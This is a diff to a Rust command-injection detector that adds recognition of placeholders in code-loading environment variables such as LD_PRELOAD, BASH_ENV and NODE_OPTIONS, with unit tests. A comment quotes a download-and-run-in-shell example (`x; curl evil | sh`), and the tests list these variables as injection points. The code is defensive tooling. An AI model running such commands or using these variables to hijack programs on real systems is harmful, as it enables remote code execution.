@@ -7,6 +7,8 @@
 //! `watch`'s and `ssh`'s command line). A value in one of them would be
 //! code (`x; curl evil | sh`) or any program, module or file.
 
+use crate::variables::chosen_variable;
+
 /// A program that runs code given on its command line.
 struct Interpreter {
     /// Program names, without a path and a version suffix (`python3.12`).
@@ -581,6 +583,10 @@ pub enum Role {
     Module,
     /// A word of a command line it joins for a shell (`ssh host cmd {p}`).
     CommandLine,
+    /// An assignment it makes for the command it runs, to a variable that
+    /// loads or runs code or with a placeholder in the name (`env
+    /// LD_PRELOAD={p} tool`).
+    Variable,
 }
 
 /// Where a value would be code or choose what runs: the program word and
@@ -661,6 +667,9 @@ fn code_word<'a>(
             }
             let runs = is_command && !code_seen;
             if runs && interpreter.assignments && !options_ended && word.contains('=') {
+                if chosen_variable(word, has_placeholder).is_some() {
+                    return Found::Value(word, Role::Variable);
+                }
                 continue;
             }
             let maybe = std::mem::take(&mut maybe_value) && !options_ended;
@@ -874,6 +883,41 @@ mod tests {
             "python3 -W ignore app.py {p}",
             "lua -l socket app.lua {p}",
             "php -d display_errors=1 app.php {p}",
+        ] {
+            assert_eq!(found_in(command), None, "{command}");
+        }
+    }
+
+    /// Assignments `env` and `sudo` make for the command they run: a
+    /// placeholder in a variable that loads or runs code, or in a name.
+    #[test]
+    fn values_in_variables_that_run_code_are_found() {
+        let cases = [
+            ("env PERL5OPT={p} perl x.pl", "env", "PERL5OPT={p}"),
+            ("env BASH_ENV={p} bash x.sh", "env", "BASH_ENV={p}"),
+            ("env LD_PRELOAD={p} tool", "env", "LD_PRELOAD={p}"),
+            ("env NODE_OPTIONS=--require={p} node app.js", "env", "NODE_OPTIONS=--require={p}"),
+            ("env -i FOO=1 PYTHONWARNINGS=ignore::{p} python3 a.py", "env", "PYTHONWARNINGS=ignore::{p}"),
+            ("env -u HOME PATH={p} ls", "env", "PATH={p}"),
+            ("env {p}=1 tool", "env", "{p}=1"),
+            ("/usr/bin/env GIT_SSH_COMMAND={p} git fetch", "/usr/bin/env", "GIT_SSH_COMMAND={p}"),
+            ("find . -exec env LD_PRELOAD={p} tool ;", "env", "LD_PRELOAD={p}"),
+            ("timeout 5 env RUBYOPT=-r{p} ruby a.rb", "env", "RUBYOPT=-r{p}"),
+            ("sudo -u nobody LD_LIBRARY_PATH={p} tool", "sudo", "LD_LIBRARY_PATH={p}"),
+        ];
+        for (command, program, word) in cases {
+            let expected = CodeWord { program: program.into(), word: word.into(), role: Role::Variable };
+            assert_eq!(found_in(command), Some(expected), "{command}");
+        }
+        for command in [
+            "env FOO={p} tool",
+            "env LANG={p} TZ={p} date",
+            "env LD_PRELOAD=/usr/lib/x.so tool {p}",
+            "sudo -u nobody HOME={p} tool",
+            // After the command, `NAME=value` is the command's argument.
+            "env tool PATH={p}",
+            "env -- tool LD_PRELOAD={p}",
+            "make LD_PRELOAD={p}",
         ] {
             assert_eq!(found_in(command), None, "{command}");
         }
